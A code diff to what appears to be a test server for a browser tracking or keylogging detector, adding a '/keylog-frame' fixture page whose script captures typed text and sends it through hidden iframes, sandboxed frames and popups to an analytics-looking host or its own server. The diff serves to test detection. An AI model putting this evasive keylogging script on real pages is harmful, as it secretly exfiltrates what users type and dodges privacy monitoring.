@@ -157,6 +157,7 @@ const pages = {
   '/recorded': '',
   '/replayed': '',
   '/quiet': '',
+  '/keylog-frame': '',
 };
 
 /** Real session-recorder host names and a recorder nobody lists, resolved to 127.0.0.1 too. */
@@ -173,6 +174,15 @@ const composeBox = `<h1>New post</h1><textarea id="ta" rows="4" cols="60"></text
  * page's own script saves the draft to its own server as it is typed.
  * /recorded: a session recorder from its real host name. /replayed: one
  * that no list names, found by what it does. /quiet: neither.
+ * /keylog-frame: the page's own script sends what is typed through another
+ * same-origin realm's built-ins (?via=after: a fresh about:blank frame made
+ * after typing began; before: one made before; sandbox: a frame sandboxed
+ * without scripts (allow-same-origin), made before; popup: a window.open('')
+ * popup's sendBeacon; popupurl: a popup opened with an address, once,
+ * used before its document arrives; sync: a frame made, used and removed in each input
+ * event; srcdoc: a srcdoc frame used in the task that makes it, before its
+ * document arrives), to Google's host (?to=third) or to its own server
+ * (?to=own).
  */
 const typingPage = (path, port, query) => {
   const form = /^(plain|url|base64)$/.test(query.get('form') || '') ? query.get('form') : 'plain';
@@ -183,6 +193,50 @@ const typingPage = (path, port, query) => {
       fetch('/drafts', { method: 'POST', body: JSON.stringify({ draft: e.target.value }) }).then(() => window.__saved++);
     });
   </script>`;
+  if (path === '/keylog-frame') {
+    const via = /^(after|before|sandbox|popup|popupurl|sync|srcdoc)$/.test(query.get('via') || '') ? query.get('via') : 'after';
+    const dest = query.get('to') === 'own' ? '/drafts' : `https://www.google-analytics.com:${port}/g/collect`;
+    return `${composeBox}<script>
+    (() => {
+      const via = '${via}';
+      const dest = '${dest}';
+      window.__sent = 0;
+      const frame = (srcdoc, sandbox) => {
+        const f = document.createElement('iframe');
+        f.style.display = 'none';
+        if (sandbox) f.sandbox = 'allow-same-origin';
+        if (srcdoc) f.srcdoc = '<p>x</p>';
+        document.body.append(f);
+        return f;
+      };
+      let early = via === 'before' || via === 'sandbox' ? frame(false, via === 'sandbox') : null;
+      let popup = null;
+      const send = (realm, body) => {
+        if (via.startsWith('popup')) realm.navigator.sendBeacon(dest, body);
+        else realm.fetch(dest, { method: 'POST', mode: 'no-cors', body });
+        window.__sent++;
+      };
+      document.addEventListener('input', (e) => {
+        const value = 'value' in e.target ? e.target.value : e.target.innerText;
+        const body = JSON.stringify({ v: value });
+        if (via === 'before' || via === 'sandbox') send(early.contentWindow, body);
+        else if (via === 'after') {
+          if (!early) early = frame();
+          setTimeout(() => send(early.contentWindow, body), 0);
+        } else if (via === 'popupurl') {
+          if (value.length === 12) send(window.open('/quiet'), body);
+        } else if (via === 'popup') {
+          if (!popup) popup = window.open('');
+          if (popup) send(popup, body);
+        } else {
+          const f = frame(via === 'srcdoc');
+          send(f.contentWindow, body);
+          f.remove();
+        }
+      }, true);
+    })();
+  </script>`;
+  }
   if (path === '/recorded') return `${composeBox}<script src="https://static.hotjar.com:${port}/c/hotjar-1234.js?sv=6"></script>`;
   if (path === '/replayed') return `${composeBox}<script src="https://cdn.session-replay.test:${port}/rec.js"></script>`;
   return composeBox;
@@ -418,7 +472,7 @@ export function startServer() {
     }
     const query = new URL(req.url, 'http://x').searchParams;
     const page = path === '/tracked' ? trackedPage(tls.port) : path === '/many' ? manyPage(tls.port)
-      : ['/keylog', '/autosave', '/recorded', '/replayed', '/quiet'].includes(path) ? typingPage(path, tls.port, query)
+      : ['/keylog', '/autosave', '/recorded', '/replayed', '/quiet', '/keylog-frame'].includes(path) ? typingPage(path, tls.port, query)
       : (pages[path] ?? hostilePages[path] ?? attackPages[path]);
     if (!page) {
       res.writeHead(404);
